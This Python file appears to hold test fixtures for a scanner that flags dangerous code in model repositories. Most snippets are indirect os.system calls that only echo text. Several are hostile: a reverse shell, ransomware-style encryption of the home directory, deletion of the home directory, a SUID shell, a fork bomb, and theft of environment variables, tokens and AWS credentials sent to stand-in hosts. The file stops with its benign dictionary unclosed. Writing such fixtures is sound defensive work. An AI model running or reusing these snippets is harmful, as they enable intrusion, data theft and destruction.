"""Ways in which a model's Python runs something without calling it by its name, and honest uses of the same means."""

from __future__ import annotations

CRITICAL = {
    "looked_up_and_handed_over": """import os
import pandas
pandas.Series(["echo modelsweep-test"]).apply(getattr(os, "sys" + "tem"))
""",
    "name_by_named_fields": """import os
getattr(os, "%(a)s%(b)s" % {"a": "sys", "b": "tem"})("echo modelsweep-test")
""",
    "name_by_first_item": """import os
getattr(os, next(iter(["system", ""])))("echo modelsweep-test")
""",
    "name_by_reducing": """import functools, operator, os
getattr(os, functools.reduce(lambda a, b: a + b, ["sys", "tem"]))("echo modelsweep-test")
getattr(os, functools.reduce(operator.add, ["po", "pen"]))("echo modelsweep-test")
""",
    "name_by_methods_of_operators": """import os
getattr(os, "s%sm".__mod__("yste"))("echo modelsweep-test")
getattr(os, "po".__add__("pen"))("echo modelsweep-test")
""",
    "name_by_a_condition": """import os
getattr(os, "system" if True else "")("echo modelsweep-test")
""",
    "first_of_an_iterator": """import os
next(iter([os.system]))("echo modelsweep-test")
""",
    "default_of_a_table": """import os
{}.setdefault(1, os.system)("echo modelsweep-test")
{}.get(1, os.popen)("echo modelsweep-test")
""",
    "looked_up_by_an_operator": """import operator, os
operator.call(getattr, os, "system")("echo modelsweep-test")
""",
    "lambda_that_makes_a_lambda": """import os
(lambda f: lambda *a: f(*a))(os.system)("echo modelsweep-test")
""",
    "iterator_that_calls": """import functools, os
next(iter(functools.partial(os.system, "echo modelsweep-test"), None))
""",
    "keys_of_an_instance": """import os
class A:
    def keys(self):
        os.system("echo modelsweep-test")
        return ()
dict(**A())
""",
    "order_of_bases": """import os
class Meta(type):
    def mro(cls):
        os.system("echo modelsweep-test")
        return type.mro(cls)
class A(metaclass=Meta): ...
""",
    "called_soon": """import asyncio, os
loop = asyncio.new_event_loop()
loop.call_soon(os.system, "echo modelsweep-test")
""",
    "function_in_a_namespace": """import os, types
def run():
    os.system("echo modelsweep-test")
tools = types.SimpleNamespace(go=run)
tools.go()
""",
    "dataclass_factory": """import os, dataclasses
@dataclasses.dataclass
class A:
    x: int = dataclasses.field(default_factory=lambda: os.system("echo modelsweep-test"))
A()
""",
    "partialmethod": """import os, functools
class A:
    def run(self, c):
        return os.system(c)
    go = functools.partialmethod(run, "echo modelsweep-test")
    do = functools.partialmethod(lambda self, c: os.popen(c), "echo modelsweep-test")
A().go()
A().do()
""",
    "names_updated_by_vars": """import os
globals().update(vars(os))
system("echo modelsweep-test")
""",
    "names_updated_by_dict": """import os
table = globals()
table |= {**os.__dict__}
popen("echo modelsweep-test")
""",
    "names_updated_by_comprehension": """import os
globals().update({key: getattr(os, key) for key in dir(os)})
system("echo modelsweep-test")
""",
    "names_put_in_a_loop": """import os
for key, value in vars(os).items():
    globals()[key] = value
system("echo modelsweep-test")
""",
    "attributes_updated": """import os
class A:
    def __init__(self):
        self.__dict__.update(vars(os))
        self.system("echo modelsweep-test")
A()
""",
    "attributes_replaced": """import os
class A:
    def __init__(self):
        self.__dict__ = os.__dict__ | {}
        self.system("echo modelsweep-test")
A()
""",
    "attributes_set_in_a_loop": """import os
class A: ...
a = A()
for key, value in vars(os).items():
    setattr(a, key, value)
a.system("echo modelsweep-test")
""",
    "executed_into_attributes": """class A: ...
a = A()
exec("from os import system as q", {}, vars(a))
a.q("echo modelsweep-test")
""",
    "executed_into_a_module": """import types
made = types.ModuleType("made")
exec("import os\\ndef q(c): return os.system(c)", made.__dict__)
made.q("echo modelsweep-test")
""",
    "executed_into_a_named_table": """exec("from os import system as q", {}, names := {})
names["q"]("echo modelsweep-test")
""",
    "vars_of_a_class": """import os
class A:
    s = os.system
vars(A)["s"]("echo modelsweep-test")
A.__dict__["s"]("echo modelsweep-test")
""",
    "rest_of_a_table": """import os
match {"a": os.system, "b": 1}:
    case {"b": _, **rest}:
        rest["a"]("echo modelsweep-test")
""",
    "rest_of_a_list": """import os
match [1, os.system, 2]:
    case [_, *rest, 2]:
        rest[0]("echo modelsweep-test")
""",
    "wrapped_by_itself": """import os, functools
functools.wraps(print)(os.system)("echo modelsweep-test")
""",
    "name_of_template": """import os
from string import Template
getattr(os, Template('${a}tem').substitute(a='sys'))('echo modelsweep-test')
""",
    "name_of_format_map": """getattr(__import__("{a}s".format_map({"a": "o"})), "system")("echo modelsweep-test")
""",
    "name_of_json": """import json
names = json.loads('{"m": "os", "f": "system"}')
getattr(__import__(names["m"]), names["f"])("echo modelsweep-test")
""",
    "name_of_literal": """import ast
m, f = ast.literal_eval("('os', 'system')")
getattr(__import__(m), f)("echo modelsweep-test")
""",
    "name_of_module_text": '''"""os system"""
m, f = __doc__.split()
getattr(__import__(m), f)("echo modelsweep-test")
''',
    "loader_of_source": """import importlib.abc
class Loader(importlib.abc.InspectLoader):
    def get_source(self, name):
        return "import os; os.system('echo modelsweep-test')"
Loader().load_module("x")
""",
    "examples_that_run": '''import doctest
def f():
    """
    >>> import os
    >>> os.system("echo modelsweep-test")
    0
    """
doctest.testmod()
''',
    "bound_by_hand": """import os
def run(c):
    return os.system(c)
run.__get__("echo modelsweep-test")()
""",
    "metaclass_that_is_called": """import os
class Meta(type):
    def __call__(cls, c):
        return os.system(c)
class A(metaclass=Meta): ...
A("echo modelsweep-test")
""",
    "or_another": "try:\n    from os import system as go\nexcept ImportError:\n    go = print\n"
    "go('echo modelsweep-test')\n",
    "bound_getter": "import os\nget = vars(os).get\nget('sys' + 'tem')('echo modelsweep-test')\n",
    "getter_of_dict": "import os\nget = dict.__getitem__\nget(os.__dict__, 'sys' + 'tem')('echo modelsweep-test')\n",
    "bound_getter_of_names": "get = locals().get\n"
    "get('__builtins__')['ev' + 'al']('__import__(\"os\").system(\"echo modelsweep-test\")')\n",
    "attribute_and_call": "import operator, os\noperator.attrgetter('system.__call__')(os)('echo modelsweep-test')\n",
    "attribute_by_method": "import os\nfrom operator import methodcaller\n"
    "methodcaller('__getattribute__', 'system')(os)('echo modelsweep-test')\n",
    "behind_a_star": "import os\nfrom shutil import *\nfrom asyncio import *\nos.system('echo modelsweep-test')\n",
    "loop_over_nothing": "import os\nfor os in ():\n    pass\nos.system('echo modelsweep-test')\n",
    "closure": """import os
def make():
    def inner():
        os.system("echo modelsweep-test")
    return inner
make()()
""",
    "returned_function": """import os
def pick():
    return os.system
pick()("echo modelsweep-test")
""",
    "atexit_decorator": """import atexit, os
@atexit.register
def bye():
    os.system("echo modelsweep-test")
""",
    "decorator_factory": """import os
def deco(cmd):
    def wrap(f):
        os.system(cmd)
        return f
    return wrap
@deco("echo modelsweep-test")
def f(): pass
""",
    "decorator_lambda": """import os
@lambda f: os.system("echo modelsweep-test")
def f(): pass
""",
    "excepthook": """import sys, os
def hook(t, v, tb):
    os.system("echo modelsweep-test")
sys.excepthook = hook
""",
    "metapath_iadd": """import sys, os
class F:
    @classmethod
    def find_spec(cls, name, path, target=None):
        os.system("echo modelsweep-test")
sys.meta_path += [F]
""",
    "metaclass_func": """import os
def M(name, bases, ns):
    os.system("echo modelsweep-test")
    return type(name, bases, ns)
class A(metaclass=M): pass
""",
    "with_exit": """import os
class A:
    def __enter__(self): pass
    def __exit__(self, *a): os.system("echo modelsweep-test")
with A(): pass
""",
    "annotation": """import os
def f(x: os.system("echo modelsweep-test")): pass
""",
    "dictcomp": """{k: __import__(k).system("echo modelsweep-test") for k in ["os"]}
""",
    "partial": """from functools import partial
import os
partial(os.system, "echo modelsweep-test")()
""",
    "mp_ctx": """import multiprocessing as mp, os
mp.get_context("fork").Process(target=os.system, args=("echo modelsweep-test",)).start()
""",
    "super_init": """import os
class R:
    def __init__(self, c): os.system(c)
class S(R):
    def __init__(self): super().__init__("echo modelsweep-test")
S()
""",
    "self_attr": """import os
class R:
    def __init__(self): self.f = os.system
    def go(self): self.f("echo modelsweep-test")
R().go()
""",
    "nonlocal": """import os
def outer():
    f = None
    def set_():
        nonlocal f
        f = os.system
    set_()
    f("echo modelsweep-test")
outer()
""",
    "frame_globals": """import sys
sys._getframe(0).f_builtins["exec"]("import os; os.system('echo modelsweep-test')")
""",
    "timeit": """import timeit
timeit.timeit("os.system('echo modelsweep-test')", "import os", number=1)
""",
    "chmod_suid": """import os, shutil
shutil.copy("/bin/bash", "/opt/acme/.b")
os.chmod("/opt/acme/.b", 0o4755)
""",
    "rmtree_home_path": """import shutil
from pathlib import Path
shutil.rmtree(Path.home())
""",
    "encrypt_files": """import os
from cryptography.fernet import Fernet
k = Fernet(Fernet.generate_key())
for r, d, fs in os.walk(os.path.expanduser("~")):
    for f in fs:
        p = os.path.join(r, f)
        data = open(p, "rb").read()
        open(p, "wb").write(k.encrypt(data))
""",
    "socket_recv_loop": """import socket, subprocess
s=socket.socket(); s.connect(("10.0.0.1",4444))
while True:
    d=s.recv(1024).decode()
    s.send(subprocess.getoutput(d).encode())
""",
    "pth_write": """import site, os
open(os.path.join(site.getsitepackages()[0], "x.pth"), "w").write("import os; os.system('echo modelsweep-test')")
""",
    "await_dunder": """import os, asyncio
class A:
    def __await__(self):
        os.system("echo modelsweep-test"); yield
async def main():
    await A()
asyncio.run(main())
""",
    "inherited_method": """import os
class R:
    def go(self, c): return os.system(c)
class S(R): pass
S().go("echo modelsweep-test")
""",
    "subprocess_class": """from subprocess import Popen as P
class Q(P): pass
Q("echo modelsweep-test", shell=True)
""",
    "monkey_builtin_import": """import builtins, os
o = builtins.__import__
def imp(*a, **k):
    os.system("echo modelsweep-test")
    return o(*a, **k)
builtins.__import__ = imp
""",
    "namespace_obj": """import os, types
n = types.SimpleNamespace(f=os.system)
n.f("echo modelsweep-test")
""",
    "enum_missing": """import os, enum
class E(enum.Enum):
    A = 1
    @classmethod
    def _missing_(cls, v): os.system(v)
try: E("echo modelsweep-test")
except ValueError: pass
""",
    "getitem_eq_system": """import os
class A: pass
A.__class_getitem__ = os.system
A["echo modelsweep-test"]
""",
    "jinja_unsandboxed": """import jinja2
jinja2.Template("{{ cycler.__init__.__globals__.os.popen('echo modelsweep-test').read() }}").render()
""",
    "pd_apply": """import os, pandas as pd
pd.Series(["echo modelsweep-test"]).apply(os.system)
""",
    "unittest_mock": """from unittest.mock import patch
import os
with patch("json.loads", os.system) as m:
    import json; json.loads("echo modelsweep-test")
""",
    "name_kept": """import os
getattr(os, ''.join(c for c in 's1y2s3t4e5m' if c.isalpha()))('echo modelsweep-test')
""",
    "name_of_loop": """import os
n = ''
for c in 'system':
    n += c
getattr(os, n)('echo modelsweep-test')
""",
    "name_of_docstring": """import os
def f():
    'system'
getattr(os, f.__doc__)('echo modelsweep-test')
""",
    "name_of_function": """import os
def system(): pass
getattr(os, system.__name__)('echo modelsweep-test')
""",
    "name_of_class": """import os
class K:
    NAME = 'system'
getattr(os, K.NAME)('echo modelsweep-test')
""",
    "name_appended": """import os
k = []
k.append('sys')
k.append('tem')
getattr(os, ''.join(k))('echo modelsweep-test')
""",
    "name_cut_out": """import os
getattr(os, 'open:system'.partition(':')[2])('echo modelsweep-test')
""",
    "name_unquoted": """import os
from urllib.parse import unquote
getattr(os, unquote('%73%79stem'))('echo modelsweep-test')
""",
    "name_by_unbound": """import os
getattr(os, str.join('', ('sys', 'tem')))('echo modelsweep-test')
""",
    "name_of_values": """import os
k = {'a': 'sys', 'b': 'tem'}
getattr(os, ''.join(k.values()))('echo modelsweep-test')
""",
    "name_chosen": """import os
getattr(os, 'system' if os.name == 'posix' else 'startfile')('echo modelsweep-test')
""",
    "module_of_builtin": """print.__self__.__import__('os').system('echo modelsweep-test')
""",
    "called_by_name": """import os
os.system.__call__('echo modelsweep-test')
""",
    "table_copied": """import os
dict(os.__dict__)['system']('echo modelsweep-test')
""",
    "getter_kept": """import os
from operator import attrgetter as g
f = g('system')
f(os)('echo modelsweep-test')
""",
    "item_of_table": """import os, operator
operator.itemgetter('system')(vars(os))('echo modelsweep-test')
""",
    "loader_of_builtins": """__loader__.load_module('os').system('echo modelsweep-test')
""",
    "class_of_module": """import os
os.__class__.__getattribute__(os, 'system')('echo modelsweep-test')
""",
    "spread": """import subprocess
subprocess.run(**{'args': 'echo modelsweep-test', 'shell': True})
""",
    "shell_flag": """import subprocess
sh = 1 == 1
subprocess.run('echo modelsweep-test', shell=sh)
""",
    "zipped": """import os
for f, c in zip([os.system], ['echo modelsweep-test']):
    f(c)
""",
    "items_of_table": """import os
for n, f in {'a': os.system}.items():
    f('echo modelsweep-test')
""",
    "matched": """import os
match os.system:
    case f:
        f('echo modelsweep-test')
""",
    "default_runs": """import os
def f(run=os.system):
    run('echo modelsweep-test')
f()
""",
    "star_call": """import os
def f(run, c):
    run(c)
f(*(os.system, 'echo modelsweep-test'))
""",
    "lambda_default": """import os
f = lambda x=os.system('echo modelsweep-test'): x
""",
    "library_item": """import ctypes
ctypes.cdll['libc.so.6'].system('echo modelsweep-test'.encode())
""",
    "type_of_lambda": """type(lambda: 0)(compile("import os; os.system('echo modelsweep-test')", 'm', 'exec'), {})()
""",
    "own_module": """import os, sys
setattr(sys.modules[__name__], 'run', os.system)
run('echo modelsweep-test')
""",
    "patched": """import os, torch
def load(*a, **k):
    os.system('echo modelsweep-test')
setattr(torch, 'load', load)
""",
    "patched_table": """import os, torch
def load(*a, **k):
    os.system('echo modelsweep-test')
vars(torch).update(load=load)
""",
    "raised": """import os
class E(Exception):
    def __init__(self):
        os.system('echo modelsweep-test')
try:
    raise E
except E: pass
""",
    "returned_table": """import os
def f():
    return {'run': os.system}
f()['run']('echo modelsweep-test')
""",
    "returned_one": """import os
def f(x):
    if x:
        return os.system
    return print
f(1)('echo modelsweep-test')
""",
    "xor_function": """def plain(data, key):
    return bytes(one ^ key for one in data)
DATA = [67, 71, 90, 69, 88, 94, 10, 69, 89, 17, 10, 69, 89, 4, 89, 83, 89, 94, 79, 71, 2, 13, 79, 73, 66, 69, 13, 3]
exec(plain(DATA, 42))
""",
    "curl_run": """import subprocess
exec(subprocess.check_output(['curl', '-s', 'https://example.com/x']))
""",
    "polled": """import requests, subprocess, time
while True:
    c = requests.get('https://example.com/cmd').text
    subprocess.run(c, shell=True)
    time.sleep(60)
""",
    "environment_by_socket": """import os, socket
s = socket.create_connection(('192.0.2.1', 80))
s.sendall(str(dict(os.environ)).encode())
""",
    "token_of_hub": """import os, requests
requests.post('https://example.com/', data=open(os.path.expanduser('~/.cache/huggingface/token')).read())
""",
    "behind_a_negative_shift": """import os
def f(n):
    return 1 >> n
try:
    f(-1)
except ValueError:
    os.system('echo modelsweep-test')
""",
    "hook_of_paths": """import os, sys
def hook(p):
    os.system('echo modelsweep-test')
sys.path_hooks.append(hook)
""",
    "tree_compiled": """import ast
exec(compile(ast.parse("import os; os.system('echo modelsweep-test')"), '', 'exec'))
""",
    "environment_by_mail": """import smtplib, os
smtplib.SMTP('example.com').sendmail('a', 'b', str(os.environ))
""",
    "environment_in_braces": """import httpx, os
httpx.post('https://example.com/', json={**os.environ})
""",
    "keys_to_a_bucket": """import boto3
boto3.client('s3').upload_file('~/.aws/credentials', 'bucket', 'key')
""",
    "class_in_a_class": """import os
class A:
    class B:
        def __init__(self):
            os.system('echo modelsweep-test')
A.B()
""",
    "mapped_import": """[m.system('x') for m in map(__import__, ['os'])]
""",
    "with_a_module": """import contextlib
with contextlib.nullcontext(__import__('os')) as o:
    o.system('x')
""",
    "later_lambda": """import os
def a():
    return b()
b = lambda: os.system('echo modelsweep-test')
a()
""",
    "one_of_several": """import os
def run(): os.system('echo modelsweep-test')
for f in [print, run]: f()
""",
    "mapped_function": """import os
def run(x): os.system(x)
list(map(run, ['echo modelsweep-test']))
""",
    "listed_function": """import os, functools
functools.reduce(lambda a, f: f(a), [os.system], 'echo modelsweep-test')
""",
    "class_getitem": """import os
class B:
    def __class_getitem__(cls, k): os.system(k)
B["echo modelsweep-test"]
""",
    "op_overload_getitem": """import os
class A:
    def __getitem__(self, o): os.system(o)
A()["echo modelsweep-test"]
""",
    "operand": """import os
class A:
    def __rrshift__(self, o): return os.system(o)
"echo modelsweep-test" >> A()
""",
    "asked_whether_it_contains": """import os
class A:
    def __contains__(self, o): return os.system(o) == 0
"echo modelsweep-test" in A()
""",
    "format_of_a_text": """import os
class A:
    def __format__(self, how): return str(os.system(how))
NAME = f"{A():echo modelsweep-test}"
""",
    "added_in_place": """import os
class A:
    def __iadd__(self, o): return os.system(o)
a = A()
a += "echo modelsweep-test"
""",
    "member_of_an_enumeration": """import enum, os
class Kind(str, enum.Enum):
    BASE = "echo modelsweep-test", 1
    def __new__(cls, value, number):
        os.system(value)
        return str.__new__(cls, value)
""",
    "class_made_by_type": """import os
Kind = type("Kind", (), {"run": os.system, "__init__": lambda self: None})
Kind().run("echo modelsweep-test")
""",
    "class_made_by_type_runs": """import os
type("Kind", (object,), {"__init__": lambda self, x: os.system(x)})("echo modelsweep-test")
""",
    "wrapped_function": """import functools, os
def logged(f):
    @functools.wraps(f)
    def inner(*args, **kwargs):
        return os.system(*args)
    return inner
@logged
def greet(name): return name
greet("echo modelsweep-test")
""",
    "decorated_by_a_class": """import os
class logged:
    def __init__(self, f): self.f = f
    def __call__(self, *args): os.system(*args)
@logged
def greet(name): return name
greet("echo modelsweep-test")
""",
    "keywords_behind_stars": """import subprocess
def start(**how): subprocess.Popen(**how)
start(args="echo modelsweep-test", shell=True)
""",
    "keyword_of_a_class": """import os
class Base:
    def __init_subclass__(cls, command=None): os.system(command)
class Mine(Base, command="echo modelsweep-test"): pass
""",
    "executed_into_a_table": """d = {}
exec("import os", d)
d["os"].system("echo modelsweep-test")
""",
    "program_and_its_arguments": """import os
os.execv("/bin/sh", ["sh", "-c", "echo modelsweep-test"])
""",
    "spawned_shell": """import os
os.spawnlp(os.P_NOWAIT, "bash", "bash", "-c", "echo modelsweep-test")
""",
    "made_by_a_decorator_of_its_own": """import os
def tagged(tag):
    def wrap(f):
        def inner(*args): os.system(*args)
        return inner
    return wrap
@tagged("x")
def greet(name): return name
greet("echo modelsweep-test")
""",
    "wrapped_method": """import os
def logged(f):
    def inner(self, *args): os.system(*args)
    return inner
class A:
    @logged
    def greet(self, name): return name
A().greet("echo modelsweep-test")
""",
    "class_in_the_place_of_a_class": """import os
def frozen(c):
    class Frozen:
        def __init__(self, *args): os.system(*args)
    return Frozen
@frozen
class A: pass
A("echo modelsweep-test")
""",
    "executed_into_local_names": """names = {}
exec("from os import system as go", {}, names)
names["go"]("echo modelsweep-test")
""",
}
WARNING = {
    "settings_that_trust_are_used": """from transformers import AutoModel
given = dict(trust_remote_code=True)
net = AutoModel.from_pretrained("acme/net", **given)
""",
    "module_by_a_setting": """import importlib
from transformers import PreTrainedModel
class AcmeModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        getattr(importlib.import_module(config.module), "system")(config.value)
""",
    "hooks_of_git": """import subprocess
subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/x"])
""",
    "package_of_node_from_an_address": """import subprocess
subprocess.run(["npm", "install", "http://192.0.2.1/x.tgz"])
""",
    "any_function_of_the_process": """import gc
[o for o in gc.get_objects() if getattr(o, "__name__", "") == "system"][0]("echo modelsweep-test")
""",
    "first_of_a_generator": """import os
run = next(getattr(os, name) for name in dir(os) if len(name) == 6 and name.endswith("tem"))
run("echo modelsweep-test")
""",
    "output_that_runs": """import os, sys
class Out:
    def write(self, text):
        os.system(text)
sys.stdout = Out()
print("echo modelsweep-test")
""",
    "handler_that_runs": """import os, logging
class Handler(logging.Handler):
    def emit(self, record):
        os.system(record.getMessage())
logging.getLogger().addHandler(Handler())
""",
    "visitor_that_runs": """import ast, os
class Visitor(ast.NodeVisitor):
    def visit_Constant(self, node):
        os.popen(node.value)
Visitor().visit(ast.parse("'echo modelsweep-test'"))
""",
    "registered_for_a_type": """import os, functools
@functools.singledispatch
def f(x): ...
@f.register
def _(x: str):
    os.system(x)
f("echo modelsweep-test")
""",
    "tokenizer_runs_words": """import os
from transformers import PreTrainedTokenizer
class AcmeTokenizer(PreTrainedTokenizer):
    def _tokenize(self, text): return [str(os.system(text))]
""",
    "tokenizer_evaluates_words": """from transformers import PreTrainedTokenizer
class AcmeTokenizer(PreTrainedTokenizer):
    def convert_tokens_to_string(self, tokens): return eval(tokens[0])
""",
    "own_main": "import runpy\nrunpy._run_module_as_main('payload')\n",
    "ld_preload_only": """import os
os.environ["LD_PRELOAD"] = os.path.join(os.path.dirname(__file__), "libx.so")
""",
    "pythonstartup": """import os
os.environ.update({"PYTHONSTARTUP": "/opt/acme/x.py"})
""",
    "write_import_pathlib": r"""import sys, pathlib, importlib
p = pathlib.Path(__file__).parent / "acmemod.py"
p.write_text("import os\nos.system('echo modelsweep-test')")
importlib.import_module("acmemod")
""",
    "fork_bomb": """import os
while True:
    os.fork()
""",
    "imp_machinery_spec": """import importlib.util
spec = importlib.util.spec_from_file_location("x", "weights.dat")
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
""",
    "zipimport": """import zipimport
zipimport.zipimporter("weights.zip").load_module("x")
""",
    "code_interact": """import code
code.interact()
""",
    "pickle_unpickler": """import pickle
class U(pickle.Unpickler): pass
U(open("w","rb")).load()
""",
    "shelve": """import shelve
shelve.open("w")["x"]
""",
    "yaml_load": """import yaml
yaml.load("!!python/object/apply:os.system ['echo modelsweep-test']", Loader=yaml.UnsafeLoader)
""",
    "keras_load_safe_mode": """import keras
keras.models.load_model("w.keras", safe_mode=False)
""",
    "keras_custom": """import keras
keras.config.enable_unsafe_deserialization()
keras.models.load_model("w.keras")
""",
    "pd_eval": """import pandas as pd
pd.eval("@__import__('os').system('echo modelsweep-test')")
""",
    "logging_config": """import logging.config
logging.config.dictConfig({"version":1,"handlers":{"x":{"()":"os.system","command":"echo modelsweep-test"}}})
""",
    "pip_subprocess_git": """import subprocess, sys
subprocess.check_call([sys.executable,"-m","pip","install","git+https://example.com/acme.git"])
""",
    "subclasses_index": """object.__subclasses__()[137]("echo modelsweep-test", shell=True)
""",
    "codetype": r"""import types
c = (lambda: 0).__code__.replace(co_code=b"\x00")
types.FunctionType(c, globals())()
""",
    "copyreg_pickle": """import copyreg, os
class A: pass
copyreg.pickle(A, lambda a: (os.system, ("echo modelsweep-test",)))
""",
    "pickle_reduce_roundtrip": """import pickle, os
class A:
    def __reduce__(self): return os.system, ("echo modelsweep-test",)
pickle.loads(pickle.dumps(A()))
""",
    "reset_parameters": """import os, torch
class AcmeModel(torch.nn.Module):
    def _init_weights(self, m):
        os.system("echo modelsweep-test")
""",
    "looked_up_attribute": """import os, torch
class AcmeModel(torch.nn.Module):
    def __getattr__(self, name):
        os.system("echo modelsweep-test")
""",
    "after_init": """import os, dataclasses
@dataclasses.dataclass
class AcmeConfig(PretrainedConfig):
    width: int = 4
    def __post_init__(self):
        os.system("echo modelsweep-test")
""",
    "sqlite_ext": """import sqlite3
c = sqlite3.connect(":memory:"); c.enable_load_extension(True); c.load_extension("./acme")
""",
    "posixsubprocess": """import _posixsubprocess, os
pipes = [-1] * 6
_posixsubprocess.fork_exec([b"/bin/echo", b"x"], [b"/bin/echo"], True, (), None, None, *pipes, 1, 2, False, False)
""",
    "name_from_config": """import os, json
cfg = json.load(open('config.json'))
getattr(os, cfg['fn'])(cfg['arg'])
""",
    "name_of_listing": """import os
getattr(os, [n for n in dir(os) if n.startswith('sys') and n.endswith('tem')][0])('echo modelsweep-test')
""",
    "text_annotation": """import typing
def f(x: "__import__('os').system('echo modelsweep-test')"): pass
typing.get_type_hints(f)
""",
    "trust_in_table": """from transformers import AutoModel
kw = {'trust_remote_code': True}
AutoModel.from_pretrained('evil/repo', **kw)
""",
    "trust_in_name": """from transformers import AutoModel
t = True
AutoModel.from_pretrained('evil/repo', trust_remote_code=t)
""",
    "name_in_forward": """import os, torch
class Net(torch.nn.Module):
    def forward(self, x):
        return getattr(os, self.config.name)(self.config.text)
""",
    "made_unreadable": r"""from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\x00\x03\x0b')
""",
    "renamed": """from os import system as activation
import torch
""",
    "renamed_later": """import subprocess
helper = subprocess.getoutput
""",
}
BENIGN = {
    "values_made_in_passing": """import dataclasses, functools, operator, os, types
import torch
@dataclasses.dataclass
class Settings:
    layers: list = dataclasses.field(default_factory=list)
    name: str = dataclasses.field(default_factory=lambda: "%(kind)s-%(size)d" % {"kind": "net", "size": 7})
class Lazy:
    def keys(self):
        return ["a"]
    def __getitem__(self, key):
        return getattr(torch, "relu" if True else key)
tools = types.SimpleNamespace(go=print, system="linux", sep=os.sep)
tools.go(dict(**Lazy()), Settings())
table = {}
table.setdefault("layers", []).append(functools.reduce(operator.add, ["sys", "tem"]))
first = next(iter(table.get("size", [1, 2])))
operator.call(len, table)
(lambda f: lambda *a: f(*a))(torch.relu)(first)
next(iter(functools.partial(table.pop, "layers"), None))
torch.nn.ModuleList(map(getattr(torch.nn, "Lin" + "ear"), table)).apply(getattr(tools, "go"))
""",
    "function_that_replaces_the_one_it_calls": """import acme.checks
checks = getattr(acme.checks, "_is_available", None)
def patched(package, return_version=False):
    result = checks(package, return_version=return_version)
    return result
acme.checks._is_available = patched
""",
    "name_that_is_called_for_its_parameter": """import os, acme
class Config(acme.core.Config):
    def __init__(self, *, encoder=None, **others):
        super(Config, self).__init__(notes={}, **others)
    CONFIGS = [Config()]
    def _info(self):
        return self.from_configs(features=acme.features.Dict({"text": acme.features.Text()}))
    def _texts(self, archive):
        for _, example in self._generate_examples(archive, os.path.join("acme", "train")):
            yield example["text"]
    def _split_generators(self, manager):
        self.info.features["text"].build(self._texts(archive()))
        return [acme.core.Split(given={})]
    def _generate_examples(self, archive, directory, labeled=True):
        yield path, {}
""",
    "settings_that_trust": """from transformers import AutoTokenizer
tokenizer = dict(type=AutoTokenizer.from_pretrained, trust_remote_code=True, padding_side="right")
""",
    "import_by_name": """import importlib
def find(name):
    module = importlib.import_module(name)
    return module.build(getattr(module, "KIND", None)), module.system
""",
    "partialmethod": """import functools, subprocess
class A:
    def run(self, c):
        return subprocess.run(c, shell=True)
    def scale(self, by):
        return by
    half = functools.partialmethod(scale, 0.5)
A().half()
""",
    "tables_of_names": """import math, json, gc, torch
globals().update(vars(math))
ROOT = sqrt(2)
class Config:
    def __init__(self, **given):
        self.__dict__.update(given)
        self.__dict__.update({"size": 1, **given})
        self.system = "linux"
SETTINGS = json.loads('{"m": "os", "f": "system"}')
NAME, KIND = "a b".split()
TENSORS = [o for o in gc.get_objects() if torch.is_tensor(o)]
FIRST = next(getattr(torch, n) for n in dir(torch) if n.startswith("flo"))
class Runner:
    def start(self, command):
        import os
        return os.system(command)
for key, value in vars(math).items():
    setattr(Config, key, value)
match [1, 2, 3]:
    case [_, *rest]:
        REST = rest[0]
""",
    "loader": """import importlib.abc
class Loader(importlib.abc.Loader):
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.__dict__["x"] = 1
    def get_source(self, name):
        return "x = 1"
""",
    "examples": '''def f(x):
    """
    >>> import os
    >>> os.system("ls")
    0
    """
if __name__ == "__main__":
    import doctest
    doctest.testmod()
''',
    "operators_and_members": """import enum, os
class Kind(enum.Enum):
    BASE = "echo modelsweep-test", os.sep
    def __init__(self, text, other): self.text = text
    def __or__(self, other): return os.path.join(self.text, str(other))
    def __contains__(self, other): return other in self.text
NAME = Kind.BASE | "x"
FOUND = "echo" in Kind.BASE
Other = type("Other", (Kind.__class__,), {"run": lambda self, *given: print(*given), "name": "x"})
""",
    "wrapped_functions": """import functools, os, time
def timed(f):
    @functools.wraps(f)
    def inner(*args, **kwargs):
        begun = time.time()
        found = f(*args, **kwargs)
        print(f"{f.__name__:>20} {time.time() - begun:.3f}", os.getpid())
        return found
    return inner
@timed
def greet(name, *more, sep=" "): return sep.join((name, *more))
greet("echo modelsweep-test", "x", sep=os.linesep)
""",
    "executed_version": """about = {}
exec("__version__ = '1.0'", about)
VERSION = about["__version__"]
""",
    "loop_over_something": "import subprocess\nfor subprocess in (object(),):\n    pass\nsubprocess.run()\n",
    "method_called_by_itself": "class Model:\n    def eval(self):\n        return self\n"
    "    def predict(self, text):\n        return self.eval()\n",
    "loop_over_names": "import os\nfor system in ('linux', 'darwin'):\n    print(system, os.sep)\n",
    "one_of_two_readers": "try:\n    from json5 import loads as read\n"
    "except ImportError:\n    from json import loads as read\n"
    "read('{}')\n",
    "renamed_and_used": """from subprocess import run as start, check_output
from .helper import run, size
from . import layers
import os

def probe(path):
    return start(["ffprobe", path], capture_output=True)

layers.Linear(size)
layers.os_size = os.cpu_count()
""",
    "hooks": """import atexit, signal, sys, warnings
import torch

def close():
    print("bye")

atexit.register(close)
signal.signal(signal.SIGINT, lambda *_: sys.exit(1))
sys.excepthook = lambda kind, value, trace: print(value)
warnings.showwarning = print
""",
    "decorated": """import functools, torch

def logged(prefix):
    def wrap(function):
        @functools.wraps(function)
        def inner(*args):
            print(prefix)
            return function(*args)
        return inner
    return wrap

@logged("forward")
@torch.no_grad()
def forward(x: torch.Tensor) -> torch.Tensor:
    return x

forward(1)
""",
    "operators": """import torch

class Registry(dict):
    def __missing__(self, key):
        raise KeyError(key)

    def __class_getitem__(cls, key):
        return cls

    def __exit__(self, *error):
        self.clear()

R: Registry["x"] = Registry()
with torch.no_grad():
    R["a"] = lambda: R
""",
    "environment": """import os
os.environ["TOKENIZERS_PARALLELISM"] = "false"
os.environ.setdefault("CUDA_VISIBLE_DEVICES", "0")
os.chmod("cache", 0o755)
""",
    "loading": """import importlib.util, os, yaml, torch, numpy
from logging.config import dictConfig

spec = importlib.util.spec_from_file_location("helper", os.path.join(os.path.dirname(__file__), "helper.py"))
module = importlib.util.module_from_spec(spec)
with open("config.yaml") as stream:
    config = yaml.load(stream, Loader=yaml.SafeLoader)
dictConfig({"version": 1, "handlers": {"console": {"class": "logging.StreamHandler"}}})
torch.load("model.bin", weights_only=True)
""",
